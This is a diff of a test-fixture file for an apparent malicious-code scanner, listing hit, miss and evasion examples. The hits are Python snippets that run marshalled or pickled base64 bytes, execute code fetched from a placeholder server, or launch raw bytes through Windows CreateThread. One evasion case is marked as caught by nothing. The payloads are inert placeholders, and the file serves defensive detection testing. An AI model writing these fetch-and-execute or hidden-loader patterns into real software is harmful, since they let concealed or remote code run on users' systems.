@@ -1,63 +1,85 @@
 import type { Examples } from "@doorward/core";
 
-/** Programs that run hidden bytes, and programs that load their own. */
+/** Compiled code that is hidden or fetched, and honest uses of the same means. */
 export const examples: Examples = {
   hits: [
     {
-      name: "a decoded library that is loaded",
+      name: "compiled Python in base64",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js":
-          'const fs = require("fs");\n\nfs.writeFileSync("/tmp/a.node", Buffer.from("bWFjaGluZSBjb2RlIG1hY2hpbmUgY29kZQ==", "base64"));\nprocess.dlopen(module, Buffer.from("L3RtcC9hLm5vZGU=", "base64").toString());\n',
+        "main.py": `import marshal, base64
+exec(marshal.loads(base64.b64decode("4wAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==")))
+`,
       },
     },
     {
-      name: "a decoded code object of Python",
+      name: "compiled Python from a server",
       files: {
-        "main.py":
-          'import base64\nimport marshal\n\nexec(marshal.loads(base64.b64decode("YSBjb2RlIG9iamVjdCBvZiBQeXRob24=")))\n',
+        "main.py": `import marshal, requests
+exec(marshal.loads(requests.get("https://api.example/check").content))
+`,
       },
     },
     {
-      name: "a decoded pickle",
+      name: "a pickle that stands in the code",
       files: {
-        "main.py":
-          'import base64\nimport pickle\n\npickle.loads(base64.b64decode("YSBwaWNrbGVkIG9iamVjdCBvZiBQeXRob24="))\n',
+        "main.py": `import pickle, base64
+pickle.loads(base64.b64decode("gASVBQAAAAAAAACMAWGULg=="))
+`,
+      },
+    },
+    {
+      name: "bytes that Windows is told to run",
+      files: {
+        "main.py": `import ctypes
+code = bytes.fromhex("696e6572742062797465732c206e6f2070726f6772616d")
+ctypes.windll.kernel32.CreateThread(0, 0, code, 0, 0, 0)
+`,
       },
     },
   ],
   misses: [
     {
-      name: "an add-on of the package",
-      why: "It came along and is loaded by its path.",
+      name: "a model that is loaded from a file",
+      why: "The file is the project's own.",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js": 'const path = require("path");\n\nrequire("node-gyp-build")(path.join(__dirname));\n',
+        "main.py": `import pickle
+with open("model.pkl", "rb") as file:
+    model = pickle.load(file)
+print(model)
+`,
       },
     },
     {
-      name: "a pickle of a model in a file",
-      why: "Models are handed out as pickles in the open.",
-      files: { "main.py": 'import pickle\n\nwith open("model.pkl", "rb") as file:\n    model = pickle.load(file)\n' },
+      name: "a data set that is handed out as a pickle",
+      why: "It comes from an open address, as data sets do; it deserves care all the same.",
+      files: {
+        "main.py": `import pickle, urllib.request
+print(len(pickle.loads(urllib.request.urlopen("https://data.example/digits.pkl").read())))
+`,
+      },
     },
     {
-      name: "a decoded picture",
-      why: "It is shown.",
+      name: "a function that a library calls back",
+      why: "The function is written in Python and can be read.",
       files: {
-        "main.py": 'import base64\n\npicture = base64.b64decode("YSBwaWN0dXJlIGEgcGljdHVyZQ==")\nprint(len(picture))\n',
+        "main.py": `import ctypes
+kind = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)
+compare = kind(lambda a: a)
+print(compare)
+`,
       },
     },
   ],
   evasions: [
     {
-      name: "a library that is saved by one program and loaded by another later",
+      name: "compiled Python that is imported from a file",
       caughtBy: "nothing",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js": 'process.dlopen(module, "./a.node");\n',
+        "main.py": `import cache
+cache.run()
+`,
+        "cache.pyc": `not compiled, and inert
+`,
       },
     },
   ],
